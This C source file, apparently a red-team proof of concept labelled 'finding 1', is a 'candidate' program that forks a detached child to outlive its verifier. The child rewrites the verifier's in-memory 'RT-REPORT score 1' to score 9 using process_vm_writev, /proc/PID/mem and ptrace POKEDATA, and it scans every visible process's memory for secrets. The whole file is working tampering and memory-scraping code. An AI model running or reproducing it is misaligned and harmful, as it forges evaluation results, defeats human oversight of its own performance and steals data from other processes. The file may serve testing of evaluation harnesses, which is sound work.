/* forge.c — finding 1: a candidate that rewrites its verifier's report in the verifier's memory.
 *
 * usage: forge [--read PREFIX]
 * Forks a detached child and exits at once (so the verifier goes on). The child looks at every
 * process it can see (its first parent, the verifier, first), finds "RT-REPORT score 1" in its
 * writable memory and tries three ways to rewrite it to score 9: process_vm_writev, a write to
 * /proc/PID/mem, and PTRACE_SEIZE + PTRACE_POKEDATA. With --read it also looks for PREFIX and
 * prints the NUL-terminated string found there. Each attempt is described on stderr; each
 * success prints "FORGED pid PID by METHOD" (or "READ pid PID: TEXT") on stdout.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_REGION ((size_t)64 << 20)

static char needle[32];     /* built at run time: not in this program's own data */
static const char *prefix;  /* --read */
static int forged, leaked;
static char last_read[65]; /* the last secret printed (each is printed once in a row) */
static int verbose; /* describe refusals too (for the first target, the verifier) */

static int seized; /* the pid being looked at is stopped under this process's ptrace */

/* Stops pid with PTRACE_SEIZE + PTRACE_INTERRUPT (once); returns 0 or -1 (errno). */
static int seize(pid_t pid)
{
    if (seized)
        return 0;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return -1;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) != 0) {
        int e = errno;
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        errno = e;
        return -1;
    }
    int st;
    while (waitpid(pid, &st, __WALL) < 0 && errno == EINTR) {
    }
    seized = 1;
    return 0;
}

static void unseize(pid_t pid)
{
    if (seized)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    seized = 0;
}

/* Reads len bytes at addr of pid by any means that works: /proc/PID/mem, process_vm_readv, or
 * PTRACE_PEEKDATA (regions up to 1 MiB). Returns the method's name, or NULL. */
static const char *read_remote(pid_t pid, int memfd, uintptr_t addr, char *buf, size_t len)
{
    if (memfd >= 0 && pread(memfd, buf, len, (off_t)addr) == (ssize_t)len)
        return "/proc/PID/mem";
    struct iovec local = {buf, len}, remote = {(void *)addr, len};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == (ssize_t)len)
        return "process_vm_readv";
    if (len > ((size_t)1 << 20) || len % sizeof(long) != 0 || seize(pid) != 0)
        return NULL;
    for (size_t off = 0; off < len; off += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + off), NULL);
        if (errno != 0)
            return NULL;
        memcpy(buf + off, &word, sizeof word);
    }
    return "ptrace PEEKDATA";
}

/* The three ways to write '9' at addr of pid; each reports on stderr, each success on stdout. */
static void forge_at(pid_t pid, int memfd_rw, uintptr_t addr)
{
    char nine = '9';
    struct iovec local = {&nine, 1}, remote = {(void *)addr, 1};
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == 1) {
        printf("FORGED pid %d by process_vm_writev\n", (int)pid);
        forged++;
    } else {
        fprintf(stderr, "forge: pid %d: process_vm_writev refused (%s)\n", (int)pid, strerror(errno));
    }
    if (memfd_rw >= 0 && pwrite(memfd_rw, &nine, 1, (off_t)addr) == 1) {
        printf("FORGED pid %d by /proc/PID/mem\n", (int)pid);
        forged++;
    } else {
        fprintf(stderr, "forge: pid %d: write to /proc/%d/mem refused (%s)\n", (int)pid, (int)pid,
                memfd_rw < 0 ? "not open for writing" : strerror(errno));
    }
    if (seize(pid) == 0) {
        uintptr_t word_at = addr & ~(uintptr_t)7;
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)word_at, NULL);
        if (errno == 0) {
            ((char *)&word)[addr - word_at] = '9';
            if (ptrace(PTRACE_POKEDATA, pid, (void *)word_at, (void *)word) == 0) {
                printf("FORGED pid %d by ptrace POKEDATA\n", (int)pid);
                forged++;
            } else {
                fprintf(stderr, "forge: pid %d: POKEDATA refused (%s)\n", (int)pid, strerror(errno));
            }
        } else {
            fprintf(stderr, "forge: pid %d: PEEKDATA refused (%s)\n", (int)pid, strerror(errno));
        }
    } else {
        fprintf(stderr, "forge: pid %d: PTRACE_SEIZE refused (%s)\n", (int)pid, strerror(errno));
    }
}

/* Looks through pid's writable memory; forges each report found, prints each secret found. */
static void attack(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    FILE *maps = fopen(path, "r");
    if (!maps) {
        if (verbose)
            fprintf(stderr, "forge: pid %d: maps refused (%s)\n", (int)pid, strerror(errno));
        return;
    }
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int memfd_rw = open(path, O_RDWR | O_CLOEXEC);
    int memfd = memfd_rw >= 0 ? memfd_rw : open(path, O_RDONLY | O_CLOEXEC);
    if (memfd_rw < 0 && verbose)
        fprintf(stderr, "forge: pid %d: open /proc/%d/mem O_RDWR refused (%s)\n", (int)pid, (int)pid,
                strerror(errno));
    char line[512];
    const char *method = NULL;
    size_t nlen = strlen(needle), plen = prefix ? strlen(prefix) : 0;
    while (fgets(line, sizeof line, maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w')
            continue;
        size_t len = (size_t)(hi - lo);
        if (len > MAX_REGION)
            continue;
        char *buf = malloc(len);
        if (!buf)
            continue;
        const char *m = read_remote(pid, memfd, (uintptr_t)lo, buf, len);
        if (!m) {
            free(buf);
            continue;
        }
        method = m;
        for (size_t i = 0; i + nlen <= len; i++) {
            if (memcmp(buf + i, needle, nlen) == 0) {
                fprintf(stderr, "forge: pid %d: report found at %#lx (read by %s)\n", (int)pid,
                        lo + i, m);
                forge_at(pid, memfd_rw, (uintptr_t)(lo + i + nlen - 1));
            }
            if (plen && i + plen + 32 < len && memcmp(buf + i, prefix, plen) == 0 &&
                isxdigit((unsigned char)buf[i + plen])) {
                char text[65];
                size_t k = 0;
                while (k < 64 && isgraph((unsigned char)buf[i + k])) {
                    text[k] = buf[i + k];
                    k++;
                }
                text[k] = '\0';
                if (leaked < 8 && strcmp(text, last_read) != 0)
                    printf("READ pid %d by %s: %s\n", (int)pid, m, text);
                snprintf(last_read, sizeof last_read, "%s", text);
                leaked++;
            }
        }
        free(buf);
    }
    if (!method && verbose)
        fprintf(stderr, "forge: pid %d: memory not readable (mem, process_vm_readv, ptrace)\n",
                (int)pid);
    unseize(pid);
    if (memfd >= 0)
        close(memfd);
    fclose(maps);
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "--read") == 0)
        prefix = argv[2];
    snprintf(needle, sizeof needle, "RT-REPORT %s %d", "score", 1);
    pid_t verifier = getppid();
    pid_t me = getpid();
    fflush(stdout);
    pid_t child = fork();
    if (child != 0)
        return 0; /* the candidate itself ends at once; its detached child acts */
    setsid();     /* refused in some sandboxes; harmless */
    setvbuf(stdout, NULL, _IOLBF, 0);
    verbose = 1;
    attack(verifier);
    verbose = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end || pid <= 0 || pid == getpid() || pid == me || pid == verifier)
            continue;
        attack((pid_t)pid);
    }
    if (d)
        closedir(d);
    fprintf(stderr, "forge: done: %d forged, %d secrets read\n", forged, leaked);
    fflush(stdout);
    return 0;
}
